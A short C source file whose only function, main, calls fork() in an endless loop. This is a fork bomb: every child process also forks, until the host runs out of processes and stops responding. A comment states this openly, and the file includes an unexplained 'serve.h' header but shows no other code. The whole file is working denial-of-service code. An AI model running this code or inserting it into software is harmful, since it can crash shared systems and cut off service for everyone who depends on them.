/* Forks without end; each child does the same. */
#include "serve.h"

int main(void) {
  for (;;) fork();
}
